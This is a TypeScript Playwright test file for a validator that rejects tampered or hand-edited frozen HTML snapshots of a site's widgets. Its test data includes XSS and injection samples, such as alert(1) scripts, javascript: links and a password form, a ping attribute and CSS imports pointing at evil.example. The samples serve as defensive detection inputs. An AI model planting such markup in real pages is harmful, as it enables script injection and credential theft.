import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { load } from 'cheerio';
import { freeze } from '../../src/cli/frozen-copy.ts';
import { frozenBaseUrl, frozenHtmlFaults, scriptHash } from '../../src/record/load/frozenForm.ts';
import { restoreUrls, sha256Hex } from '../../src/record/load/frozen.ts';
import { longCode, payloads } from '../payloads.ts';
import { damage, root } from './record.ts';

const liveHtml = `<!DOCTYPE html><html><head><link rel="alternate" type="application/json+oembed" href="${frozenBaseUrl}oembed/layouts/a/b/compact.json"></head><body><a class="credit__save" href="${frozenBaseUrl}embed/a/b/" download="x">Save</a><span class="credit__day">As of <time datetime="2015-03-01">Mar 1, 2015</time></span></body></html>`;

/** An invented frozen copy with a script that widgets of this site have had. */
const html = readFileSync(join(root, 'tests/fixtures/frozen-copy.html'), 'utf8');

const file = 'frozen/key/2015-03-01.html';
test('a frozen copy says that it is one, and contains no address of the site', () => {
  const copy = freeze(liveHtml, 'a/b', '2015-03-01');
  expect(copy).toContain('Copy of <time datetime="2015-03-01">Mar 1, 2015</time>. <a href=');
  expect(copy).toContain(`${frozenBaseUrl}embed/a/b/?since=2015-03-01`);
  expect(copy).toContain(`${frozenBaseUrl}oembed/a/b/@2015-03-01.json`);
  expect(copy).toContain(`href="${frozenBaseUrl}embed/a/b/@2015-03-01/" download`);
  const frozenCopy = { widget: 'a/b', date: '2015-03-01', file: 'x', html: copy };
  expect(restoreUrls(frozenCopy, 'https://site.example/kb/')).not.toContain('frozen.invalid');
  expect(() => freeze('<p>Nothing.</p>', 'a', '2015-03-01')).toThrow('no credit line');
});

test('text that looks like the credit line stays text when a copy is frozen', () => {
  const words =
    '<span class="credit__day">As of <time>x</time></span> href="https://frozen.invalid/embed/a/b/" download';
  const live = liveHtml.replace('<body>', () => `<body><p title="${words.replaceAll('"', '&quot;')}">x</p>`);
  const $ = load(freeze(live, 'a/b', '2015-03-01'));
  expect($('p').attr('title')).toBe(words);
  expect($('.credit__day').text()).toBe('Copy of Mar 1, 2015. What changed since');
});

test('a frozen copy that was changed, removed or added by hand is a problem', () => {
  const list = `${sha256Hex(html)}  key/2015-03-01.html\n`;
  expect(damage({ [file]: html, 'frozen/hashes.txt': list })).toEqual([]);
  expect(damage({ [file]: `${html} `, 'frozen/hashes.txt': list })).toEqual([
    `content/${file} · This frozen copy has changed, and it must not: bring back what was committed`,
  ]);
  expect(damage({ 'frozen/hashes.txt': list })).toEqual([
    `content/${file} · This frozen copy is gone, and it must stay: bring back what was committed`,
  ]);
  expect(damage({ [file]: html })).toEqual([
    `content/${file} · This frozen copy is not listed in content/frozen/hashes.txt: npm run freeze writes both`,
  ]);
  expect(damage({ [file]: html, 'frozen/hashes.txt': list + list })).toEqual([
    'content/frozen/hashes.txt · "key/2015-03-01.html" is listed twice: keep the line that npm run freeze wrote first, because a copy never changes',
  ]);
  expect(damage({ 'frozen/Key.html': html, 'frozen/hashes.txt': 'x\n' })).toEqual([
    'content/frozen/hashes.txt · "x" is no line of this list: a hash, two spaces and a path; npm run freeze writes them',
    'content/frozen/Key.html · This is no frozen copy: they are frozen/<widget>/<day>.html; npm run freeze writes them',
  ]);
});

/** Markup that the site never writes, with the fault reported for it. */
const additions: readonly [markup: string, fault: string][] = [
  [
    '<script src="https://evil.example/x.js"></script>',
    'does not hold exactly one <script>, in its head and without attributes',
  ],
  ['<script>alert(1)</script>', 'does not hold exactly one <script>, in its head and without attributes'],
  [
    '<svg><script>alert(1)</script></svg>',
    'does not hold exactly one <script>, in its head and without attributes',
  ],
  ['<style>p{color:red}</style>', 'does not hold exactly one <style>, in its head and without attributes'],
  ['<iframe src="https://evil.example/"></iframe>', 'holds the element <iframe>'],
  ['<iframe srcdoc="x"></iframe>', 'holds the attribute srcdoc (on <iframe>)'],
  ['<form action="https://evil.example/"><input type="password"></form>', 'holds the element <form>'],
  ['<input type="password">', 'holds <input type="password">'],
  ['<input type="radio" formaction="x">', 'holds the attribute formaction (on <input>)'],
  ['<img src="https://evil.example/x.gif">', 'holds the element <img>'],
  ['<object data="x"></object>', 'holds the element <object>'],
  ['<embed src="x">', 'holds the element <embed>'],
  ['<base href="https://evil.example/">', 'holds the element <base>'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'does not hold, right after'],
  ['<meta name="referrer" content="unsafe-url">', 'holds <meta name="referrer">'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'holds <link rel="stylesheet">'],
  ['<link rel="icon" href="https://evil.example/x.ico">', 'holds <link href="https://evil.example/x.ico">'],
  ['<template><p>x</p></template>', 'holds the element <template>'],
  ['<record-zoom></record-zoom>', 'holds the element <record-zoom>'],
  ['<math><mtext>x</mtext></math>', 'holds the element <math>'],
  ['<svg><foreignObject></foreignObject></svg>', 'holds the element <foreignObject>'],
  ['<svg><animate attributeName="href"></animate></svg>', 'holds the element <animate>'],
  ['<svg><use href="data:image/svg+xml,x"></use></svg>', 'holds <use href="data:image/svg+xml,x">'],
  [
    '<svg><rect fill="url(https://evil.example/#x)"></rect></svg>',
    'holds <rect fill="url(https://evil.example/#x)">',
  ],
  ['<p onclick="alert(1)">x</p>', 'holds the attribute onclick (on <p>)'],
  ['<p style="color:red">x</p>', 'holds the attribute style (on <p>)'],
  ['<a href="javascript:alert(1)">x</a>', 'holds <a href="javascript:alert(1)">'],
  ['<a href=" javascript:alert(1)">x</a>', 'holds <a href=" javascript:alert(1)">'],
  ['<a href="data:text/html,x">x</a>', 'holds <a href="data:text/html,x">'],
  ['<a href="https://x.example/" ping="https://evil.example/">x</a>', 'holds the attribute ping (on <a>)'],
  ['<svg><a xlink:href="javascript:alert(1)">x</a></svg>', 'holds <a href="javascript:alert(1)">'],
];

test('a frozen copy with markup the site never writes is a problem, even if its hash is listed', () => {
  for (const [markup, fault] of additions)
    expect(frozenHtmlFaults(html.replace('</main>', () => `${markup}</main>`)).join('\n'), markup).toContain(
      fault,
    );
  const edited = html.replace('</main>', () => '<form></form></main>');
  expect(
    damage({ [file]: edited, 'frozen/hashes.txt': `${sha256Hex(edited)}  key/2015-03-01.html\n` }),
  ).toEqual([
    `content/${file} · This frozen copy holds the element <form>: put back the file that npm run freeze wrote`,
  ]);
  const markup = payloads
    .filter(({ runsIn = '' }) => ['text', 'clicked text'].includes(runsIn))
    .map(({ of }) => of(longCode));
  expect(markup.length).toBeGreaterThan(25);
  for (const value of markup)
    expect(frozenHtmlFaults(html.replace('</main>', () => `${value}</main>`)), value).not.toEqual([]);
});

test('a frozen copy has the policy the site writes and a script the site has shipped', () => {
  const known = scriptHash(html);
  const changed = (from: RegExp, to: string) => {
    expect(html).toMatch(from);
    return frozenHtmlFaults(html.replace(from, () => to)).join('\n');
  };
  const script = 'alert(1)';
  const hash = `sha256-${createHash('sha256').update(script).digest('base64')}`;
  const policy = /<meta http-equiv="content-security-policy"[^>]*>/;
  expect(changed(policy, '')).toContain(
    'does not hold, right after the charset and nowhere else, the policy',
  );
  expect(changed(/base-uri 'none'; /, '')).toContain('the policy');
  expect(changed(/<meta charset="utf-8">/, '')).toContain(
    'does not begin its head with <meta charset="utf-8">',
  );
  expect(changed(/<!DOCTYPE html>/i, '')).toBe('does not begin with <!DOCTYPE html><html>');
  expect(changed(/<style>/, '<style>@import "https://evil.example/";')).toContain('loads files');
  expect(changed(/<style>/, '<style>p{background:\\75rl(https://evil.example/)}')).toContain('escapes');
  // The policy allows the new script as well, so only the list of scripts reveals it.
  const forged = html
    .replace(/<script>[^]*<\/script>/, () => `<script>${script}</script>`)
    .replace(known, () => hash);
  expect(frozenHtmlFaults(forged)).toEqual([
    `holds a script that is not listed in src/site/frozenScripts.json (${hash})`,
  ]);
});
